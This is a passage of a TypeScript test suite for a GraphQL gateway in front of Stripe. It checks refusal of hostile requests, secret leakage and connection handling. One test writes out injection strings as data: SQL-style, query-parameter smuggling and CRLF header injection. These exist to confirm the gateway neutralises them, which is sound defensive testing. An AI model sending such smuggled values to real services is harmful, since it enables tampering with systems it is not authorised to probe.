  for (const { server } of servers.values()) {
    server.closeAllConnections();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  }
  await h?.stop();
});

async function authorizationOf(sender: Sender): Promise<string | undefined> {
  if (sender === 'anonymous') return undefined;
  if (sender === 'admin') return `Bearer ${ADMIN_KEY}`;
  if (sender === 'customer') return `Bearer ${customerToken}`;
  if ('authorization' in sender) return sender.authorization;
  const token = await new SignJWT(sender.signedClaims)
    .setProtectedHeader({ alg: 'HS256' })
    .setIssuedAt()
    .setExpirationTime('10m')
    .sign(new TextEncoder().encode(JWT_SECRET));
  return `Bearer ${token}`;
}

interface Answer {
  status: number;
  headers: Headers;
  text: string;
  json: { data?: unknown; errors?: Array<{ message: string; extensions?: Record<string, unknown> }> } | undefined;
  stripeCalls: number;
  /** The `Authorization` header sent, if any. */
  authorization: string | undefined;
  /** What the gateway logged meanwhile. */
  logs: string[];
}

/** Sends a request as described (what an entry sends; its expectation aside). */
async function send(entry: Omit<Entry, 'name' | 'expect'>): Promise<Answer> {
  const { url: origin } = servers.get(entry.profile ?? 'test')!;
  const url = new URL('/graphql', origin);
  const method = entry.method ?? 'POST';
  const headers: Record<string, string> = { accept: 'application/graphql-response+json' };
  const authorization = await authorizationOf(entry.as ?? 'admin');
  if (authorization !== undefined) headers['authorization'] = authorization;
  const init: RequestInit = { method };
  let chunks: Iterable<string> | undefined;
  if (method === 'GET') {
    if (entry.query !== undefined) url.searchParams.set('query', entry.query);
    if (entry.variables !== undefined) url.searchParams.set('variables', JSON.stringify(entry.variables));
    for (const [key, value] of Object.entries(entry.params ?? {})) url.searchParams.set(key, typeof value === 'string' ? value : JSON.stringify(value));
  } else {
    headers['content-type'] = 'application/json';
    if (typeof entry.body === 'string') init.body = entry.body;
    else if (entry.body !== undefined) chunks = entry.body.chunks();
    else {
      init.body = JSON.stringify({
        ...(entry.query !== undefined ? { query: entry.query } : {}),
        ...(entry.variables !== undefined ? { variables: entry.variables } : {}),
        ...entry.params,
      });
    }
  }
  for (const [name, value] of Object.entries(entry.headers ?? {})) {
    if (value === null) delete headers[name];
    else headers[name] = value;
  }
  init.headers = headers;

  h.local.clearRequests();
  const logFrom = logged.length;
  const response = chunks !== undefined ? await postChunked(url, headers, chunks) : await fetch(url, init);
  const text = await response.text();
  let json: Answer['json'];
  try {
    json = JSON.parse(text) as Answer['json'];
  } catch {
    json = undefined;
  }
  // The request's log line is written when the response is; give a late line a moment.
  await new Promise((resolve) => setImmediate(resolve));
  return {
    status: response.status,
    headers: response.headers,
    text,
    json,
    stripeCalls: h.local.requests.length,
    authorization,
    logs: logged.slice(logFrom),
  };
}

/**
 * POSTs a chunked body (no content-length) on a connection of its own (`agent: false`, so `connection: close`): a
 * server that answers before reading the whole body must not leave a pooled connection behind for other requests.
 */
function postChunked(url: URL, headers: Record<string, string>, chunks: Iterable<string>): Promise<Response> {
  const toHeaders = (incoming: IncomingHttpHeaders) => {
    const out = new Headers();
    for (const [name, value] of Object.entries(incoming)) {
      if (value !== undefined) out.set(name, Array.isArray(value) ? value.join(', ') : value);
    }
    return out;
  };
  return new Promise((resolve, reject) => {
    const request = httpRequest(url, { method: 'POST', headers, agent: false }, (response) => {
      const parts: Buffer[] = [];
      response.on('data', (part: Buffer) => parts.push(part));
      response.on('error', reject);
      response.on('end', () =>
        resolve(new Response(Buffer.concat(parts), { status: response.statusCode ?? 0, headers: toHeaders(response.headers) })),
      );
    });
    // Writing may fail once the server has answered and closed: the answer is what counts.
    request.on('error', reject);
    for (const chunk of chunks) request.write(chunk);
    request.end();
  });
}

/** True when `value` holds no data: null, or objects whose every value holds none. */
function empty(value: unknown): boolean {
  if (value === null || value === undefined) return true;
  if (typeof value === 'object' && !Array.isArray(value)) return Object.values(value).every(empty);
  return false;
}

/** Everything wrong with an answer, as readable lines (empty: as expected). */
function problemsOf(entry: Entry, answer: Answer): string[] {
  const want = entry.expect;
  const problems: string[] = [];
  if (answer.status !== want.status) problems.push(`HTTP ${answer.status}, expected ${want.status}`);
  if (!/application\/graphql-response\+json/.test(answer.headers.get('content-type') ?? '')) {
    problems.push(`content-type '${answer.headers.get('content-type')}', expected application/graphql-response+json`);
  }
  if (answer.stripeCalls !== want.stripeCalls) problems.push(`${answer.stripeCalls} Stripe call(s), expected ${want.stripeCalls}`);
  const errors = answer.json?.errors ?? [];
  if (errors.length === 0) problems.push('no errors in the response');
  const expected = (error: { extensions?: Record<string, unknown> }) =>
    error.extensions?.['code'] === want.code && (want.limit === undefined || error.extensions?.['limit'] === want.limit);
  const allowed = (error: { extensions?: Record<string, unknown> }) =>
    expected(error) ||
    (want.alsoAllowed ?? []).some((a) => error.extensions?.['code'] === a.code && (a.limit === undefined || error.extensions?.['limit'] === a.limit));
  if (errors.length > 0 && !errors.some(expected)) problems.push(`no error with code ${want.code}${want.limit !== undefined ? ` and limit ${want.limit}` : ''}`);
  for (const [i, error] of errors.entries()) {
    if (!allowed(error)) {
      problems.push(`errors[${i}] has code ${String(error.extensions?.['code'])}${error.extensions?.['limit'] !== undefined ? `, limit ${String(error.extensions['limit'])}` : ''}; expected ${want.code}${want.limit !== undefined ? `, limit ${want.limit}` : ''}`);
    }
  }
  const field = errors[0]?.extensions?.['field'];
  if (want.field !== undefined && !(typeof want.field === 'string' ? field === want.field : typeof field === 'string' && want.field.test(field))) {
    problems.push(`errors[0].extensions.field is ${String(errors[0]?.extensions?.['field'])}, expected ${want.field}`);
  }
  // A refused request carries no data entry; a refused field carries no data either.
  if (want.refused && answer.json !== undefined && 'data' in answer.json) problems.push(`a data entry on a refused request`);
  if (!empty(answer.json?.data)) problems.push('data in the response');
  if (want.retryAfter && !/^\d+$/.test(answer.headers.get('retry-after') ?? '')) problems.push('no Retry-After header');
  if ((entry.profile ?? 'test') === 'production' && /did you mean/i.test(answer.text)) problems.push('a suggestion in production');
  // Nothing secret, in the body or any header: the admin key, the JWT secret, the Stripe key, the caller's token.
  const secrets = [ADMIN_KEY, JWT_SECRET, h.local.secretKey, customerToken];
  const sent = answer.authorization?.replace(/^Bearer\s+/i, '');
  if (sent !== undefined && sent.length >= 16) secrets.push(sent);
  const visible = `${answer.text}\n${[...answer.headers].map(([k, v]) => `${k}: ${v}`).join('\n')}`;
  for (const secret of secrets) {
    if (visible.includes(secret)) problems.push(`the response contains a secret (${secret.slice(0, 12)}…)`);
    if (answer.logs.some((line) => line.includes(secret))) problems.push(`the log contains a secret (${secret.slice(0, 12)}…)`);
  }
  return problems;
}

describe('free-text arguments', () => {
  // `customers(email:)` is the one free-text argument of the schema that reaches Stripe: a filter of a list call (the
  // gateway makes no search query). An injection in it is not refused, it is harmless: it reaches Stripe as one
  // form-encoded `email` parameter, byte for byte, and matches nothing. (Customers cannot send it at all: see the
  // corpus.)
  for (const email of ["' OR 1=1 --", 'a@b.c&limit=100&starting_after=cus_x', 'email:"a@b.c" OR -email:"x"', 'a@b.c\u0000\r\nX: y']) {
    it(`an email filter of ${JSON.stringify(email)} reaches Stripe as one exact parameter and widens nothing`, async () => {
      const answer = await send({
        query: 'query($e: String) { customers(first: 100, email: $e) { edges { node { id } } } }',
        variables: { e: email },
      });
      expect(answer.status).toBe(200);
      expect(answer.json).toEqual({ data: { customers: { edges: [] } } });
      const [call, ...more] = h.local.requests;
      expect(more).toEqual([]);
      expect(call).toMatchObject({ method: 'GET', path: '/v1/customers', status: 200 });
      expect(call!.params).toEqual({ email, limit: '100' });
    });
  }
});

describe('the limits refuse none of the documents the apps use', () => {
  // A control for the corpus: limits tight enough to stop it must still let every trusted document through. Each
  // runs by id with ids that are refused by the resolvers (so no Stripe call is made): what must not appear is a
  // limit error.
  const manifest = Object.values(generated).filter(
    (value): value is Parameters<typeof documentIdOf>[0] => typeof value === 'object' && value !== null && 'kind' in value && value.kind === 'Document',
  );
  it('has the manifest’s documents', () => expect(manifest.length).toBeGreaterThanOrEqual(6));
  for (const document of manifest) {
    const definition = document.definitions[0];
    const name = definition?.kind === 'OperationDefinition' ? (definition.name?.value ?? '?') : '?';
    it(name, async () => {
      const variables = { customerId: 'cus_', invoiceId: 'in_', configurationId: 'bpc_', input: { customerId: 'cus_' }, first: 0 };
      const answer = await send({ profile: 'production', params: { documentId: documentIdOf(document) }, variables });
      const limits = (answer.json?.errors ?? []).filter((e) => e.extensions?.['limit'] !== undefined);
      expect(limits, `${name}: ${answer.text.slice(0, 400)}`).toEqual([]);
      expect(answer.status).toBeLessThan(400);
      expect(answer.stripeCalls).toBe(0);
    });
  }
});

describe('the hostile-input corpus', () => {
  it(`has at least ${MINIMUM_CORPUS_SIZE} entries, each with a unique name`, () => {
    if (CORPUS.length < MINIMUM_CORPUS_SIZE) {
      throw new Error(`the hostile corpus has ${CORPUS.length} entries; issue 5 requires at least ${MINIMUM_CORPUS_SIZE}`);
    }
    expect(new Set(CORPUS.map((e) => e.name)).size).toBe(CORPUS.length);
  });

  for (const entry of CORPUS) {
    it(`${entry.profile === 'production' ? '[production] ' : ''}${entry.name}`, async () => {
      const answer = await send(entry);
      const problems = problemsOf(entry, answer);
      expect(problems, `${entry.name}\n  HTTP ${answer.status}: ${answer.text.slice(0, 600)}`).toEqual([]);
    });
  }
});

describe('after a refused body', () => {
  // A client that streams a body over the limit gets its 413 before it has finished sending. Its connection must
  // then either go on serving (the rest of the body read and dropped) or be closed with the 413 (`connection: close`);
  // a connection kept alive but no longer read stalls the client's next request until the server times it out.
  it('the client’s next request on the same kept-alive connection is served', async () => {
    const own = await listen(createGateway({ graphiql: false, corsOrigins: [] }, h.deps));
    try {
      const post = (body: BodyInit, signal?: AbortSignal) =>
        fetch(`${own.url}/graphql`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', authorization: `Bearer ${ADMIN_KEY}` },
          body,
          // Node's fetch streams a ReadableStream body chunked; the option is not in the DOM typings.
          ...({ duplex: 'half' } as object),
          ...(signal !== undefined ? { signal } : {}),
        });
      const encoder = new TextEncoder();
      const refused = await post(
        new ReadableStream<Uint8Array>({
          start(controller) {
            for (const chunk of chunkedBody()) controller.enqueue(encoder.encode(chunk));
            controller.close();
          },
        }),
      );
      expect(refused.status).toBe(413);
      const answer = await refused.text();
      // The client has sent its whole body by now and puts the connection back in its pool.
      await new Promise((resolve) => setTimeout(resolve, 100));
      const next = await post(JSON.stringify({ query: '{ viewer { role } }' }), AbortSignal.timeout(2_000)).then(
        async (response) => `${response.status} ${await response.text()}`,
        (error: unknown) => `failed: ${String((error as Error).cause ?? error)}`,
      );
      expect(next, `after ${answer}`).toBe('200 {"data":{"viewer":{"role":"ADMIN"}}}');
    } finally {
      own.server.closeAllConnections();
      await new Promise<void>((resolve) => own.server.close(() => resolve()));
    }
  });
});
